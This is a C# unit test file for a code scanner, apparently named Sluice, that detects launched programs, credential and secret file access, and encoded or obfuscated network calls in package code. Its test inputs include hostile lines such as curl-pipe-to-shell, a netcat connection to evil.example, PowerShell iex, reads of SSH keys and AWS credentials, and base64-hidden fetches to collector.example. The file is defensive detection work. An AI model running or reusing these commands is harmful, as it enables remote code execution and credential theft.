using System.Text;
using Sluice.Profiles;

namespace Sluice.Tests.Profiles;

public sealed class LiteralReadingTests
{
    [Theory]
    [InlineData("execSync('curl -fsSL https://a.example/x | sh');", "curl sh")]
    [InlineData("child_process.exec(\"curl -s \" + url, done);", "curl")]
    [InlineData("(0,i.execSync)(`wget -qO- ${url} | bash`)", "bash wget")]
    [InlineData("spawn('sh', ['-c', 'curl https://a.example/x && chmod +x x'])", "chmod curl sh")]
    [InlineData("spawn(\"cmd.exe\", [\"/d\", \"/s\", \"/c\", \"powershell -nop -c iex(1)\"])", "cmd iex powershell")]
    [InlineData("s(\"sh\",[\"-c\",t])", "sh")]
    [InlineData("s(\"curl -s \"+t)", "curl")]
    [InlineData("execFile('/usr/bin/osascript', ['-e', text])", "osascript")]
    [InlineData("exec('sudo -E FOO=1 nohup nc evil.example 4444')", "nc nohup sudo")]
    [InlineData("exec('\\x63url -s ' + url)", "curl")]
    [InlineData("exec('cu' + 'rl -s ' + url)", "curl")]
    [InlineData("execSync('git rev-parse HEAD')", "git")]
    [InlineData("execa('C:\\\\Windows\\\\System32\\\\taskkill.exe', ['/f'])", "taskkill")]
    [InlineData("spawn('node', ['-e', text])", "node -e")]
    [InlineData("spawn.sync('npm', ['ls'])", "npm")]
    [InlineData("spawn(process.execPath, ['a.js'])", "")]
    [InlineData("exec(command)", "")]
    [InlineData("exec(`${tool} --version`)", "")]
    [InlineData("// execSync('curl -s https://a.example')\n", "")]
    [InlineData("throw new Error(\"run exec('curl -s x') first\");", "")]
    [InlineData("db.exec('CREATE TABLE a (b)'); /a/.exec('a b'); executor('curl x');", "")]
    [InlineData("const names = ['curl', 'wget', 'sh', 'bash']; map.set('sh', ['text/x-sh']); ['sh', ['text/x-sh']];", "")]
    [InlineData("const text = 'the bash shell and curl by hand';", "")]
    public void Programs_that_code_starts_are_named(string code, string programs) =>
        Assert.Equal(programs, string.Join(' ', Read("require('child_process');\n" + code).Programs));

    [Theory]
    [InlineData("subprocess.run([\"curl\", \"-s\", url])", "curl")]
    [InlineData("os.system('wget -q ' + url)", "wget")]
    [InlineData("subprocess.Popen(['/bin/bash', '-c', 'id'])", "bash id")]
    [InlineData("subprocess.check_output(f'git log')", "git")]
    public void Programs_that_Python_starts_are_named(string code, string programs) =>
        Assert.Equal(programs, string.Join(' ', Read("import subprocess\n" + code, CodeDialect.Python).Programs));

    [Theory]
    [InlineData("var p = Process.Start(\"powershell.exe\", \"-enc aa\");", "powershell")]
    [InlineData("cmd := exec.Command(\"curl\", \"-s\", url)", "curl")]
    public void Programs_that_other_languages_start_are_named(string code, string programs) =>
        Assert.Equal(programs, string.Join(' ', Read(code, CodeDialect.Slashes).Programs));

    [Fact]
    public void Where_nothing_is_started_only_programs_that_reach_out_are_named() =>
        Assert.Equal(["curl"], Read("pool.exec('select a'); run.exec('curl -s x');").Programs);

    [Theory]
    [InlineData("read(path.join(home, '.ssh', 'id_rsa'))", "ssh-keys")]
    [InlineData("read(home + '/.npmrc')", "npm-credentials")]
    [InlineData("read(`${home}/.aws/credentials`)", "aws-credentials")]
    [InlineData("fetch('http://169.254.169.254/latest/meta-data/')", "cloud-metadata")]
    [InlineData("copy(base + '\\\\Default\\\\Login Data')", "browser-logins")]
    [InlineData("window.ethereum.request(call)", "wallet-provider")]
    [InlineData("navigator.clipboard.readText().then(a)", "clipboard")]
    [InlineData("navigator.clipboard.writeText(a); document.cookies = 1; // document.cookie\n", "")]
    [InlineData("send(document.cookie)", "cookies")]
    [InlineData("ethereum.request = (a) => b(a)", "wallet-provider")]
    [InlineData("provider.ethereum.request = (a) => b(a)", "wallet-provider")]
    [InlineData("ethereum.requests = 1; myethereum.request(a); // ethereum.request(a)\n", "")]
    [InlineData("XMLHttpRequest.prototype.send = function () {}", "patched-requests")]
    [InlineData("window.fetch = async (...a) => b(a)", "patched-requests")]
    [InlineData("send(JSON.stringify(process.env))", "whole-environment")]
    [InlineData("spawn('claude', ['--dangerously-skip-permissions', '-p', text])", "agent-permissions")]
    [InlineData("// reads ~/.npmrc\n", "")]
    [InlineData("/**\n * ~/.ssh/id_rsa\n */\n", "")]
    [InlineData("config.ssh.host; options.aws.region; a?.docker; x.azure = 1;", "")]
    [InlineData("const host = 'https://portal.azure.com/'; const mail = 'a@b.azure-x';", "")]
    [InlineData("const send = XMLHttpRequest.prototype.send; if (window.fetch == null) a(); new XMLHttpRequest();", "")]
    [InlineData("const css = '.profile { } .docker-icon { }';", "")]
    [InlineData("process.env.HOME; JSON.stringify(process.env.NODE_ENV); const all = { ...process.env };", "")]
    public void Places_of_people_are_named_by_words_that_stay_the_same(string code, string places) =>
        Assert.Equal(places, string.Join(' ', Read(code).Places));

    [Theory]
    [InlineData("fetch(atob('{b64}'))")]
    [InlineData("fetch(Buffer.from('{b64}', 'base64').toString())")]
    [InlineData("fetch(B.from(\"{hex}\",\"hex\").toString())")]
    [InlineData("fetch(atob(atob('{b64b64}')))")]
    [InlineData("fetch(String.fromCharCode({numbers}))")]
    [InlineData("fetch(String.fromCharCode.apply(null, [{numbers}]))")]
    [InlineData("fetch([{numbers}].map((c) => String.fromCharCode(c)).join(''))")]
    [InlineData("fetch(Buffer.from([{numbers}]).toString())")]
    [InlineData("fetch(new TextDecoder().decode(new Uint8Array([{numbers}])))")]
    [InlineData("fetch(unescape('{percent}'))")]
    [InlineData("fetch(decodeURIComponent(\"{percent}\"))")]
    [InlineData("fetch('{reversed}'.split('').reverse().join(''))")]
    [InlineData("fetch('{escapes}')")]
    [InlineData("eval(atob('{code}'))")]
    public void Hosts_in_texts_that_are_decoded_first_are_called_and_hidden(string template)
    {
        var code = Filled(template, "https://collector.example/x");
        var traits = ContentTraits.Of(Encoding.UTF8.GetBytes(code), CodeDialect.Script, 1);

        Assert.Equal(["collector.example"], traits.CalledHosts);
        Assert.True(traits.Capabilities.HasFlag(Capabilities.Concealment), code);
    }

    [Theory]
    [InlineData("require(atob('{b64}'))", "child_process", "Process, Concealment")]
    [InlineData("load(atob('{b64}'))", "node:https", "NetworkModules, Concealment")]
    [InlineData("a(atob('{b64}'))", "require('child_process')", "Process, Concealment")]
    [InlineData("a(atob('{b64}'))", "collector.example", "Concealment")]
    [InlineData("a(atob('{b64}'))", "curl -s x", "Concealment")]
    [InlineData("a(atob('{b64}'))", "index.js", "None")]
    [InlineData("a(atob('{b64}'))", "Hello, world", "None")]
    [InlineData("a(decodeURIComponent('{percent}'))", "<svg xmlns='http://www.w3.org/2000/svg'/>", "None")]
    [InlineData("a(Buffer.from('{b64}', 'base64'))", "\u0001\u0002\u0003 https://a.example/ \u0004", "None")]
    [InlineData("require('{escapes}')", "child_process", "Process, Concealment")]
    [InlineData("a('\\x1b[31m https://a.example/ \\x7f'); b(/[\\x61-\\x7a]/); c('\\u0061\\u0062')", "", "None")]
    [InlineData("// atob('{b64}')\n", "collector.example", "None")]
    public void Texts_that_are_decoded_first_say_what_they_name(string template, string text, string capabilities) =>
        Assert.Equal(Enum.Parse<Capabilities>(capabilities), Read(Filled(template, text)).Capabilities);

    [Fact]
    public void Places_and_programs_in_decoded_texts_are_named()
    {
        var read = Read(Filled("a(atob('{b64}'))", "read(home + '/.ssh/id_rsa'); exec('wget -q x')"));

        Assert.Equal(["ssh-keys"], read.Places);
        Assert.Equal(["wget"], read.Programs);
    }

    [Fact]
    public void Python_decodes_in_ways_of_its_own() =>
        Assert.Equal(["collector.example"], Read(Filled("exec(base64.b64decode(b'{code}'))", "https://collector.example/x"), CodeDialect.Python).Hosts);

    [Theory]
    [InlineData("atob(\"")]
    [InlineData("exec('")]
    [InlineData("unescape(\"%41")]
    [InlineData("fromCharCode(1,")]
    [InlineData("\"a\".split(\"\").reverse()")]
    [InlineData("spawn(\"a\",[\"")]
    [InlineData("[1,2].map(fromCharCode")]
    [InlineData(",\"base64\"")]
    [InlineData("\"\\x61\\x61\\x61\\x61")]
    [InlineData("\\x61\\x61\\x61\\x61 ")]
    public void Texts_made_to_be_read_again_and_again_take_time_in_proportion(string part)
    {
        Read(string.Concat(Enumerable.Repeat(part, 1000)));
        var watch = System.Diagnostics.Stopwatch.StartNew();
        Read(string.Concat(Enumerable.Repeat(part, 100_000)));

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10));
    }

    private static string Filled(string template, string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var base64 = Convert.ToBase64String(bytes);
        return template
            .Replace("{b64}", base64, StringComparison.Ordinal)
            .Replace("{b64b64}", Convert.ToBase64String(Encoding.ASCII.GetBytes(base64)), StringComparison.Ordinal)
            .Replace("{code}", Convert.ToBase64String(Encoding.UTF8.GetBytes($"fetch('{text}')")), StringComparison.Ordinal)
            .Replace("{hex}", Convert.ToHexString(bytes), StringComparison.Ordinal)
            .Replace("{numbers}", string.Join(", ", bytes), StringComparison.Ordinal)
            .Replace("{percent}", string.Concat(bytes.Select(b => $"%{b:x2}")), StringComparison.Ordinal)
            .Replace("{escapes}", string.Concat(bytes.Select(b => $"\\x{b:x2}")), StringComparison.Ordinal)
            .Replace("{reversed}", new string([.. text.Reverse()]), StringComparison.Ordinal);
    }

    private static CodeLiterals Read(string code, CodeDialect dialect = CodeDialect.Script) => ContentTraits.Of(Encoding.UTF8.GetBytes(code), dialect, code.Count(c => c == '\n') + 1).Literals;
}
